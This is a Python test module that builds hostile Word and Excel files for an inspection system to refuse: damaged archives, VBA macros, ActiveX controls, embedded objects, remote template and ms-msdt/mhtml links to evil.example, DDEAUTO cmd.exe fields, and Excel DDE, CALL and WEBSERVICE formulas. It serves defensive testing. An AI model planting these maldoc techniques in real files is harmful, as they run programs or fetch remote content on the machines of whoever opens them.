"""Word and Excel files that run, fetch, bring along or blow up."""

import io
from collections.abc import Iterator

from evidence.inspection.kinds import OLE
from evidence.refusing import Reason
from tests.integration.evidence.corpus import Hostile
from tests.integration.evidence.corpus.harmless import (
    DOCUMENT_TYPE,
    document,
    excel,
    relation,
    relations,
    types,
    word,
    word_parts,
)
from tests.integration.evidence.corpus.packing import packed

EXCEL_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "word/_rels/document.xml.rels"


def hostile() -> Iterator[Hostile]:
    """Give every hostile Word and Excel file."""
    yield from torn()
    yield from active()
    yield from fetching()
    yield from fields()
    yield from sheets()


def torn() -> Iterator[Hostile]:
    for name, whole in (("cut.docx", word()), ("cut.xlsx", excel())):
        for tenth in range(1, 10):
            yield Hostile(f"cut at {tenth}/10", name, whole[: len(whole) * tenth // 10], Reason.DAMAGED)
        yield Hostile("last byte missing", name, whole[:-1], Reason.DAMAGED)
        yield Hostile("more behind it", name, whole + b"<script>alert(1)</script>", Reason.DAMAGED)
        yield Hostile("one byte changed", name, whole[:60] + bytes([whole[60] ^ 255]) + whole[61:], Reason.DAMAGED)


def active() -> Iterator[Hostile]:
    """Macros, controls and objects, by each of the ways in which Office finds them."""
    good = word_parts()
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    vba = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    ole = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    control = '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'

    def macro(
        what: str, contents: dict[str, bytes], reason: Reason = Reason.MACROS, name: str = "active.docx"
    ) -> Hostile:
        return Hostile(what, name, packed({**good, **contents}), reason)

    yield macro("macros", {"[Content_Types].xml": types(main), "word/vbaProject.bin": OLE})
    yield macro("macros under another type", {"[Content_Types].xml": types(more=vba), "word/x.bin": OLE})
    yield macro("macros that nothing points to", {"word/vbaProject.bin": OLE})
    yield macro("macros with a tidy name", {"word/vbaData.xml": b"<a/>"})
    yield macro("a control", {"[Content_Types].xml": types(more=control), "word/activeX/activeX1.xml": b"<a/>"})
    yield macro(
        "an object",
        {"[Content_Types].xml": types(more=ole), "word/embeddings/oleObject1.bin": OLE},
        Reason.FILES_INSIDE,
    )
    for inside in (
        "word/embeddings/evil.exe",
        "word/embeddings/a.docx",
        "word/page.html",
        "word/media/x.js",
        "word/noending",
    ):
        yield macro(f"{inside} in it", {inside: b"MZ or anything"}, Reason.FILES_INSIDE)
    for kind in ("vbaProject", "control", "activeXControlBinary", "wordVbaData", "keyMapCustomizations"):
        yield macro(f"a relation of type {kind}", {RELATIONS: relations(relation(kind, "media/a.xml"))})
    for kind in ("oleObject", "package", "aFChunk", "subDocument"):
        yield macro(
            f"a relation of type {kind}", {RELATIONS: relations(relation(kind, "media/a.xml"))}, Reason.FILES_INSIDE
        )
    button = relations(relation("officeDocument", "word/document.xml"), relation("ui/extensibility", "x.xml", number=2))
    yield macro("a button of its own", {"_rels/.rels": button})
    yield macro(
        "an object without a relation",
        {"word/document.xml": document('<o:OLEObject xmlns:o="o" Type="Embed"/>')},
        Reason.FILES_INSIDE,
    )
    yield macro("a page inside", {"word/document.xml": document("<w:altChunk/>")}, Reason.FILES_INSIDE)
    yield macro(
        "two types for one part",
        {"[Content_Types].xml": types(more=f'<Override PartName="/word/document.xml" ContentType="{EXCEL_TYPE}"/>')},
        Reason.DAMAGED,
    )
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield macro("a picture with a script", {"word/media/a.svg": svg}, Reason.SCRIPTS)
    secret = OLE + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 500
    yield Hostile("a password", "secret.docx", secret, Reason.PASSWORD)
    yield Hostile("a password", "secret.xlsx", secret, Reason.PASSWORD)
    yield Hostile("an old file with a new name", "old.docx", OLE + b"\0" * 500, Reason.OLD_OFFICE)


def fetching() -> Iterator[Hostile]:
    """What reads from somewhere else, as soon as it is opened."""
    for kind, target in (
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", "file:///C:/t.dotx"),
        ("frame", "https://evil.example/"),
        ("image", "https://evil.example/dot.png"),
        ("image", "file://host/a.png"),
        ("externalLinkPath", "file:///C:/book.xlsx"),
        ("oleObject", "mhtml:https://evil.example/x.html!x-usc:x"),
        ("hyperlink", "file:///C:/Windows/System32/calc.exe"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "\\\\host\\share\\a.docx"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("hyperlink", "search-ms:query=x"),
        ("hyperlink", "//host/share"),
        ("hyperlink", "http://[bad"),
        ("mailMergeSource", "https://evil.example/d.csv"),
        ("video", "https://evil.example/a.mp4"),
    ):
        reason = Reason.FILES_INSIDE if kind == "oleObject" else Reason.READS_ELSEWHERE
        found = relations(relation(kind, target, is_external=True))
        yield Hostile(f"{kind} at {target}", "fetch.docx", packed({**word_parts(), RELATIONS: found}), reason)
    for name in ("word/_rels/settings.xml.rels", "customXml/_rels/item1.xml.rels"):
        found = relations(relation("attachedTemplate", "https://evil.example/t.dotm", is_external=True))
        yield Hostile(
            f"a template in {name}", "fetch.docx", packed({**word_parts(), name: found}), Reason.READS_ELSEWHERE
        )
    sideways = relations(relation("image", "\\\\host\\share\\a.png"))
    yield Hostile(
        "a picture on a share", "fetch.docx", packed({**word_parts(), RELATIONS: sideways}), Reason.READS_ELSEWHERE
    )


def fields() -> Iterator[Hostile]:
    """Fields of Word that start programs (DDE) or read files, whole and in pieces."""

    def char(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    def code(text: str) -> str:
        return f"<w:r><w:instrText>{text}</w:instrText></w:r>"

    begin, end, start = char("begin"), char("end"), 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc.exe"'
    for what, body, reason in (
        ("DDE at once", f'<w:fldSimple w:instr="{start.replace(chr(34), "&quot;")}"/>', Reason.SCRIPTS),
        ("DDE", begin + code("DDE excel sheet") + end, Reason.SCRIPTS),
        ("DDE in small letters", begin + code(start.lower()) + end, Reason.SCRIPTS),
        ("DDE in pieces", begin + code("DD") + code("EAU") + code("TO c:\\\\x.exe") + end, Reason.SCRIPTS),
        ("DDE in a field in a field", begin + code("IF 1=1 ") + begin + code(start) + end + end, Reason.SCRIPTS),
        ("DDE that never ends", begin + code("DDE") + code("AUTO cmd"), Reason.SCRIPTS),
        ("DDE without a field", code(start), Reason.SCRIPTS),
        ("DDE with spaces", begin + code("  \n DDEAUTO cmd") + end, Reason.SCRIPTS),
        ("a linked file", begin + code("LINK Excel.Sheet.8 c:\\\\a.xls") + end, Reason.READS_ELSEWHERE),
        ("a text read in", begin + code(" INCLUDETEXT \\\\\\\\host\\\\a.docx") + end, Reason.READS_ELSEWHERE),
    ):
        yield Hostile(what, "field.docx", packed({**word_parts(), "word/document.xml": document(body)}), reason)
    footer = {**word_parts(), "word/footer1.xml": document(begin + code(start) + end)}
    yield Hostile("DDE at the foot of the page", "field.docx", packed(footer), Reason.SCRIPTS)
    other = f'<x:document xmlns:x="urn:x"><x:instrText>{start}</x:instrText></x:document>'.encode("utf-16")
    yield Hostile(
        "DDE in other letters", "field.docx", packed({**word_parts(), "word/document.xml": other}), Reason.SCRIPTS
    )


def sheets() -> Iterator[Hostile]:
    """Workbooks with calls, links and sheets of macros, and packages that are not what they say."""
    good = {
        "[Content_Types].xml": types(EXCEL_TYPE, "/xl/workbook.xml"),
        "_rels/.rels": relations(relation("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}"><sheets/></workbook>'.encode(),
    }

    def sheet(what: str, contents: dict[str, bytes], reason: Reason) -> Hostile:
        return Hostile(what, "sheet.xlsx", packed({**good, **contents}), reason)

    for formula in ("cmd|'/c calc'!A0", "MSEXCEL|'\\..\\cmd.exe /c calc'!''", 'REGISTER("a","b")', 'CALL("Kernel32")'):
        cell = f'<worksheet xmlns="{SHEET}"><c><f>{formula}</f></c></worksheet>'.encode()
        yield sheet(f"the formula {formula}", {"xl/worksheets/sheet1.xml": cell}, Reason.SCRIPTS)
    fetch = f'<worksheet xmlns="{SHEET}"><f>_xlfn.WEBSERVICE("https://evil.example")</f></worksheet>'.encode()
    yield sheet("a formula that fetches", {"xl/worksheets/sheet1.xml": fetch}, Reason.READS_ELSEWHERE)
    named = (
        f'<workbook xmlns="{SHEET}"><definedName name="x">cmd|&apos;/c calc&apos;!A0</definedName></workbook>'.encode()
    )
    yield sheet("a name that is a call", {"xl/workbook.xml": named}, Reason.SCRIPTS)
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield sheet("a link to a program", {"xl/externalLinks/externalLink1.xml": dde}, Reason.SCRIPTS)
    for kind, reason in (
        ("externalLink", Reason.READS_ELSEWHERE),
        ("connections", Reason.READS_ELSEWHERE),
        ("queryTable", Reason.READS_ELSEWHERE),
        ("xlMacrosheet", Reason.MACROS),
        ("dialogsheet", Reason.MACROS),
    ):
        found = relations(relation(kind, "x.xml"))
        yield sheet(f"a relation of type {kind}", {"xl/_rels/workbook.xml.rels": found}, reason)
    old = '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    macros = {"[Content_Types].xml": types(EXCEL_TYPE, "/xl/workbook.xml", old), "xl/macrosheets/sheet1.xml": b"<a/>"}
    yield sheet("a sheet of old macros", macros, Reason.MACROS)
    yield Hostile("Excel with a name of Word", "sheet.docx", excel(), Reason.OTHER_KIND)
    yield Hostile("Word with a name of Excel", "text.xlsx", word(), Reason.OTHER_KIND)
    template = types(DOCUMENT_TYPE.replace("document.main", "template.main"))
    empty = {name: part for name, part in word_parts().items() if name != "[Content_Types].xml"}
    twice = relations(
        relation("officeDocument", "word/document.xml"), relation("officeDocument", "xl/workbook.xml", number=2)
    )
    for what, contents in (
        ("a template", {**word_parts(), "[Content_Types].xml": template}),
        ("a zip of other things", {"hello.xml": b"<a/>"}),
        ("no types", empty),
        (
            "a document that is not there",
            {**word_parts(), "_rels/.rels": relations(relation("officeDocument", "x.xml"))},
        ),
        ("two documents", {**word_parts(), "_rels/.rels": twice}),
        ("a presentation", {**word_parts(), "[Content_Types].xml": types("application/vnd.ms-powerpoint.main+xml")}),
    ):
        yield Hostile(what, "other.docx", packed(contents), Reason.OTHER_KIND)
    yield Hostile(
        "not quite XML", "bad.docx", packed({**word_parts(), "word/document.xml": b"<a><b></a>"}), Reason.DAMAGED
    )
    book = io.BytesIO(b"PK\3\4")
    yield Hostile("four bytes", "four.docx", book.getvalue(), Reason.DAMAGED)
